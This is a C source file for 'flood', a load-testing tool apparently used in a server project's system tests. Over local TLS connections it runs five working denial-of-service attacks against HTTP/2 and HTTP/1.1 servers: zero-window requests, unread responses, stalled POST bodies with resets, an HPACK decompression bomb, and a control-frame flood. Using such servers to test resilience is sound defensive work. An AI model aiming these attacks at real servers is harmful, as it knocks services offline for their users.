#include "config.h"

#include <arpa/inet.h>
#include <err.h>
#include <errno.h>
#include <openssl/ssl.h>
#include <poll.h>
#include <pthread.h>
#include <signal.h>
#include <stdatomic.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#include "lib/base/clock.h"

/*
 * flood - strangers who make a node work for nothing, for the system tests.
 *
 *	flood KIND PORT CONNECTIONS SECONDS PATH
 *
 * Connections come from 127.9.0.1 on, eight from each address, over TLS; one
 * that the node ends is made again after a tenth of a second.  The bytes are
 * written here by hand: RFC 9113 for frames, RFC 7541 for header blocks.
 *
 *	window   a hundred GET PATH without any window, and no reading
 *	unread   GET PATH over HTTP/1.1, and no reading
 *	body     99 POSTs whose bodies never come; now and then one more is opened
 *	         and reset
 *	bomb     a header block of 16 KB that decodes to 64 MB
 *	frames   WINDOW_UPDATE, PING and unknown frames without end
 *
 * Prints how many connections were made, and the bytes written and read.
 */

enum {
	PER_SOURCE = 8,
	RECONNECT_US = 100000,
	STEP_MS = 500
};

struct line; /* one connection */

static struct {
	const char *path;
	int port;
	int64_t until_us;
	SSL_CTX *tls;
	atomic_ulong connections, written, bytes_read;
	void (*attack)(struct line *);
	bool http2;
} flood;

struct line {
	unsigned index;
	pthread_t thread;
	int fd;
	SSL *ssl;
	bool dead;
};

/* --- bytes ---------------------------------------------------------------------- */

static bool
goes_on(const struct line *l)
{
	return !l->dead && clock_mono_us() < flood.until_us;
}

static void
put(struct line *l, const void *bytes, size_t n)
{
	if (l->dead || n == 0)
		return;
	if (SSL_write(l->ssl, bytes, (int)n) <= 0)
		l->dead = true;
	else
		atomic_fetch_add(&flood.written, n);
}

static void
frame(struct line *l, uint8_t type, uint8_t flags, uint32_t stream,
    const void *payload, size_t n)
{
	uint8_t bytes[9 + 16384] = {(uint8_t)(n >> 16), (uint8_t)(n >> 8),
	    (uint8_t)n, type, flags, (uint8_t)(stream >> 24),
	    (uint8_t)(stream >> 16), (uint8_t)(stream >> 8), (uint8_t)stream};

	memcpy(bytes + 9, payload, n);
	put(l, bytes, 9 + n);
}

static void
greet(struct line *l, uint8_t window)
{
	const uint8_t settings[6] = {0, 4, 0, 0, window, 0};

	put(l, "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", 24);
	frame(l, 4, 0, 0, settings, sizeof(settings));
}

static void
request(struct line *l, uint32_t stream, const char *method, bool ends)
{
	uint8_t block[512];
	/* :scheme https; :authority, :method, :path and accept in literals. */
	int n = snprintf((char *)block, sizeof(block),
	    "\x87%c%clocalhost%c%c%s%c%c%s%c%caccept%c*/*", 1, 9, 2,
	    (int)strlen(method), method, 4, (int)strlen(flood.path), flood.path,
	    16, 6, 3);

	/* 16 begins a literal that is never indexed, with a new name. */
	frame(l, 1, ends ? 5 : 4, stream, block, (size_t)n);
}

/* Waits until the node ends the connection, without reading what it sends. */
static void
sit(struct line *l, int ms)
{
	struct pollfd p = {l->fd, POLLRDHUP, 0};

	if (poll(&p, 1, ms) > 0)
		l->dead = true;
}

/* --- attacks -------------------------------------------------------------------- */

static void
attack_window(struct line *l)
{
	greet(l, 0);
	for (uint32_t i = 0; i < 100; i++)
		request(l, 2 * i + 1, "GET", true);
	while (goes_on(l))
		sit(l, STEP_MS);
}

static void
attack_unread(struct line *l)
{
	char text[512];
	int n = snprintf(text, sizeof(text),
	    "GET %s HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n",
	    flood.path);

	put(l, text, (size_t)n);
	while (goes_on(l))
		sit(l, STEP_MS);
}

static void
attack_body(struct line *l)
{
	uint32_t stream = 1;

	greet(l, 255);
	for (int i = 0; i < 99; i++, stream += 2)
		request(l, stream, "POST", false);
	for (int i = 1; goes_on(l); i++) {
		sit(l, STEP_MS);
		if (i % 4 != 0)
			continue;
		request(l, stream, "POST", false);
		frame(l, 3, 0, stream, "\0\0\0\10", 4);
		stream += 2;
	}
}

static void
attack_bomb(struct line *l)
{
	/* An entry of the dynamic table with 4,000 bytes (6.2.1), and 12,000
	 * references to it (6.1). */
	uint8_t block[16384] = {0x82, 0x84, 0x87, 0x40, 1, 'x', 0x7f,
	    (3873 & 0x7f) | 0x80, 3873 >> 7};
	uint32_t stream = 1;

	memset(block + 9, 'a', 4000);
	memset(block + 4009, 0xbe, sizeof(block) - 4009);
	greet(l, 255);
	for (; goes_on(l); stream += 2) {
		frame(l, 1, 5, stream, block, sizeof(block));
		sit(l, 1);
	}
}

static void
attack_frames(struct line *l)
{
	uint8_t many[13 * 400];
	static const uint8_t kinds[3][13] = {
	    {0, 0, 4, 8, 0, 0, 0, 0, 0, 0, 0, 0, 1}, /* WINDOW_UPDATE */
	    {0, 0, 4, 0xfa, 0, 0, 0, 0, 0, 0, 0, 0, 0},
	    {0, 0, 4, 0x0c, 0, 0, 0, 0, 0, 0, 0, 0, 0},
	};

	for (size_t i = 0; i < 400; i++)
		memcpy(many + 13 * i, kinds[i % 3], 13);
	greet(l, 255);
	while (goes_on(l)) {
		put(l, many, sizeof(many));
		sit(l, 1);
	}
}

static const struct {
	const char *name;
	bool http2;
	void (*attack)(struct line *);
} kinds[] = {
    {"window", true, attack_window},
    {"unread", false, attack_unread},
    {"body", true, attack_body},
    {"bomb", true, attack_bomb},
    {"frames", true, attack_frames},
};

/* --- connections ---------------------------------------------------------------- */

static bool
dial(struct line *l)
{
	static const unsigned char h2[] = "\x02h2";
	struct sockaddr_in from = {.sin_family = AF_INET,
	    .sin_addr = {htonl(0x7f090001 + l->index / PER_SOURCE)}};
	struct sockaddr_in to = {.sin_family = AF_INET,
	    .sin_port = htons((uint16_t)flood.port),
	    .sin_addr = {htonl(INADDR_LOOPBACK)}};
	struct timeval patience = {5, 0};

	l->dead = false;
	l->fd = socket(AF_INET, SOCK_STREAM, 0);
	if (l->fd < 0)
		err(EXIT_FAILURE, "socket");
	(void)setsockopt(l->fd, SOL_SOCKET, SO_SNDTIMEO, &patience,
	    sizeof(patience));
	(void)setsockopt(l->fd, SOL_SOCKET, SO_RCVTIMEO, &patience,
	    sizeof(patience));
	l->ssl = SSL_new(flood.tls);
	if (flood.http2)
		(void)SSL_set_alpn_protos(l->ssl, h2, 3);
	return bind(l->fd, (struct sockaddr *)&from, sizeof(from)) == 0 &&
	    connect(l->fd, (struct sockaddr *)&to, sizeof(to)) == 0 &&
	    SSL_set_fd(l->ssl, l->fd) == 1 && SSL_connect(l->ssl) == 1;
}

static void *
run(void *arg)
{
	struct line *l = arg;

	while (clock_mono_us() < flood.until_us) {
		if (dial(l)) {
			atomic_fetch_add(&flood.connections, 1);
			flood.attack(l);
		}
		atomic_fetch_add(&flood.bytes_read,
		    BIO_number_read(SSL_get_rbio(l->ssl)));
		SSL_free(l->ssl);
		(void)close(l->fd);
		(void)usleep(RECONNECT_US);
	}
	return NULL;
}

int
main(int argc, char **argv)
{
	struct line *lines;
	unsigned n;

	if (argc != 6)
		errx(EXIT_FAILURE,
		    "usage: flood KIND PORT CONNECTIONS SECONDS PATH");
	for (size_t i = 0; i < sizeof(kinds) / sizeof(kinds[0]); i++) {
		if (strcmp(kinds[i].name, argv[1]) == 0) {
			flood.attack = kinds[i].attack;
			flood.http2 = kinds[i].http2;
		}
	}
	if (flood.attack == NULL)
		errx(EXIT_FAILURE, "%s: not a kind of flood", argv[1]);
	(void)signal(SIGPIPE, SIG_IGN);
	flood.port = (int)strtol(argv[2], NULL, 10);
	n = (unsigned)strtoul(argv[3], NULL, 10);
	flood.until_us =
	    clock_mono_us() + strtol(argv[4], NULL, 10) * CLOCK_SECOND;
	flood.path = argv[5];
	flood.tls = SSL_CTX_new(TLS_client_method());
	lines = calloc(n, sizeof(*lines));
	if (lines == NULL || flood.tls == NULL)
		err(EXIT_FAILURE, "memory");
	for (unsigned i = 0; i < n; i++) {
		lines[i].index = i;
		if (pthread_create(&lines[i].thread, NULL, run, &lines[i]) != 0)
			err(EXIT_FAILURE, "thread");
	}
	for (unsigned i = 0; i < n; i++)
		(void)pthread_join(lines[i].thread, NULL);
	(void)printf("%s: %lu connections, %lu bytes written, %lu read\n",
	    argv[1], atomic_load(&flood.connections),
	    atomic_load(&flood.written), atomic_load(&flood.bytes_read));
	free(lines);
	SSL_CTX_free(flood.tls);
	return EXIT_SUCCESS;
}
